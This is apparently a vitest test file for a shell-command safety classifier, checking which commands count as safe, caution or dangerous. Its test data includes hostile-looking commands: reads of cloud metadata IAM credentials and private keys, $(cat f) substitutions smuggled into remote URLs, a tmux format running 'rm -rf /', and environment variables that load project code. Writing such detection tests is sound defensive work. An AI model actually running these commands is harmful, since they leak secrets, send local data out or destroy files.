import { describe, expect, test } from 'vitest';
import { classify } from '#server/classifier/classify.ts';
import { DOORS } from '#server/classifier/tools/doors.ts';
import { PROJECT_TOOLS } from '#server/classifier/tools/project-code.ts';

describe('a word of a reader that does more than read', () => {
	for (const { examples } of DOORS) {
		const [door, reader] = examples;
		test(door, () => {
			const { tier, reasons } = classify(door);
			expect(tier).not.toBe('safe');
			expect(reasons.map((r) => r.tier)).toContain('caution');
		});
		test(`${reader} reads`, () => expect(classify(reader).tier).toBe('safe'));
	}
});

describe('a tool that executes files of the project it stands in', () => {
	for (const { examples } of PROJECT_TOOLS) {
		const [runs, reads] = examples;
		test(`${runs} is at least caution, and counts as running code`, () => {
			const { tier, reading } = classify(runs);
			expect(tier).toBe('caution');
			expect(reading.commands.flatMap((c) => c.effects)).toContain('run-code');
		});
		test(`${reads} reads`, () => expect(classify(reads).tier).toBe('safe'));
	}
});

describe('a program file that is called as a reader is', () => {
	test.each(['./ls', '/tmp/cat x', '~/bin/uptime', 'node_modules/.bin/tsc --noEmit', './kubectl get pods'])(
		'%s is caution',
		(command) => expect(classify(command).tier).toBe('caution')
	);
	test.each(['/usr/bin/ls', '/bin/cat x', 'ls'])('%s is safe', (command) =>
		expect(classify(command).tier).toBe('safe')
	);
});

describe('what prints a secret', () => {
	test.each([
		'age -d -i KEY',
		'age -d -i ~/.ssh/id_ed25519 secrets.age',
		'gpg -d secrets.gpg',
		'vault kv get secret/x',
		'vault read secret/data/x',
		'kubectl config view --raw',
		'heroku config',
		'wrangler tail',
		'openssl rsa -in key.pem -text',
		'openssl pkey -in key.pem -noout -text',
		'openssl pkcs12 -info -in a.p12',
		'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'
	])('%s is at least caution', (command) => expect(classify(command).tier).not.toBe('safe'));
	test.each([
		'gpg --verify a.sig a',
		'gpg --list-keys',
		'vault status',
		'vault secrets list',
		'kubectl config view',
		'openssl rsa -in key.pem -check -noout',
		'openssl rsa -in key.pem -pubout',
		'openssl rsa -pubin -in key.pub -text -noout',
		'openssl pkcs12 -info -nokeys -in a.p12',
		'heroku version',
		'curl -s http://169.254.169.254/latest/meta-data/instance-id'
	])('%s stays safe', (command) => expect(classify(command).tier).toBe('safe'));
});

describe('data of this machine in the question of a monitor', () => {
	test.each(['zabbix_get -s h -k "$(cat f)"', 'zabbix_get -k "$(cat f)"', 'check_http -H h -u "/$(cat f)"'])(
		'%s is at least caution',
		(command) => expect(classify(command).tier).not.toBe('safe')
	);
	test.each(['zabbix_get -s 10.0.0.1 -k system.uptime', 'check_http -H www.example.org'])('%s stays safe', (command) =>
		expect(classify(command).tier).toBe('safe')
	);
});

describe('a format of tmux', () => {
	test.each(["tmux ls -F '#(id)'", "tmux display-message -p '#(rm -rf /)'", 'tmux -f ./x ls'])(
		'%s is at least caution',
		(command) => expect(classify(command).tier).not.toBe('safe')
	);
	test.each(["tmux ls -F '#{session_name}'", 'tmux capture-pane -p', 'tmux display-message -p "#S"'])(
		'%s stays safe',
		(command) => expect(classify(command).tier).toBe('safe')
	);
});

describe('settings of a tool before a reader', () => {
	test.each([
		'PYTHONPATH=. python3 -m json.tool a.json',
		'PERL5LIB=. exiftool a.jpg',
		'GIT_DIR=./other git status',
		'LESS=+!id less notes',
		'KUBECONFIG=./x kubectl get pods',
		'npm_config_script_shell=./x npm ls',
		'env GST_PLUGIN_PATH=. gst-inspect-1.0',
		'MANOPT=-Px man ls',
		'TAR_OPTIONS=--to-command=x tar -tf a.tar',
		'LD_DEBUG_OUTPUT=/tmp/x ls',
		'export PYTHONPATH=.; python3 -m json.tool a.json',
		'declare -x HELM_PLUGINS=./x; helm list',
		'HOME=/tmp/x git status'
	])('%s is at least caution, and counts as running code', (command) => {
		const { tier, reading } = classify(command);
		expect(tier).toBe('caution');
		expect(reading.own_programs).toBe(true);
	});
	test.each([
		'LC_ALL=C sort notes',
		'PYTHONUNBUFFERED=1 python3 -m json.tool a.json',
		'PYTHONPATH=/usr/lib/python3/dist-packages python3 -m json.tool a.json',
		'KUBECONFIG=~/.kube/prod kubectl get pods',
		'KUBECONFIG=/etc/rancher/k3s/k3s.yaml kubectl get pods',
		'GIT_AUTHOR_NAME=me git log',
		'LESS=-R less notes',
		'AWS_PROFILE=prod aws s3 ls',
		'PYTHONPATH=.; echo "$PYTHONPATH"',
		'export GEM_HOME=~/gems; echo "$GEM_HOME"',
		'FOO=bar ls'
	])('%s stays safe', (command) => expect(classify(command).tier).toBe('safe'));
});

describe('a place made of data of this machine', () => {
	test.each([
		['docker manifest inspect evil/$(cat f)', 'dangerous'],
		['skopeo inspect docker://x.example/$(cat f)', 'dangerous'],
		['restic -r sftp:$(cat f) snapshots', 'dangerous'],
		['zypper --plus-repo=https://x.example/$(cat f) search y', 'dangerous'],
		['conda search "$(cat f)"', 'caution'],
		['dnf --releasever="$(id)" list', 'caution'],
		['snap info "$(cat f)"', 'caution'],
		['apptainer inspect library://x/$(id)', 'caution']
	] as const)('%s is %s', (command, tier) => expect(classify(command).tier).toBe(tier));
	test.each([
		'docker manifest inspect nginx:1.27',
		'apt-cache policy "$(dpkg -S /bin/ls | cut -d: -f1)"',
		'grep "https://$(hostname)/" notes',
		'echo "https://x.example/$(cat f)"'
	])('%s stays safe', (command) => expect(classify(command).tier).toBe('safe'));
});

describe('what a compiler prints', () => {
	test.each([
		'gcc -E -Iinclude -DX=1 -std=c17 -Wall a.c',
		'gcc -MM -MP -MT x.o a.c',
		'gcc -march=native -Q --help=target',
		'g++ -fsyntax-only -fno-exceptions -O2 a.cpp'
	])('%s reads', (command) => expect(classify(command).tier).toBe('safe'));
	test.each([
		'gcc -specs=./s -v',
		'gcc -E -MMD a.c',
		'gcc -E -Wp,-MD,out a.c',
		'gcc -fsyntax-only -fdump-tree-all a.c',
		'gcc -fsyntax-only -fdiagnostics-format=sarif-file a.c',
		'clang -Xclang -load -Xclang ./x.so -fsyntax-only a.c',
		'gcc -E -oout a.c'
	])('%s does more', (command) => expect(classify(command).tier).not.toBe('safe'));
});

describe('devices and pipes of the kernel', () => {
	test.each([
		'cat /proc/kmsg',
		'grep x < /proc/kmsg',
		'head -1 /sys/kernel/tracing/trace_pipe',
		'cat /dev/input/event0',
		'cat /sys/kernel/debug/dri/0/i915_forcewake_user',
		'cat /dev/ttyS0'
	])('%s is at least caution', (command) => expect(classify(command).tier).toBe('caution'));
	test.each([
		'head -c 16 /dev/urandom',
		'cat /proc/meminfo',
		'cat /sys/kernel/debug/usb/devices',
		'ls -l /dev/input/event0',
		'cat < /dev/null'
	])('%s stays safe', (command) => expect(classify(command).tier).toBe('safe'));
});
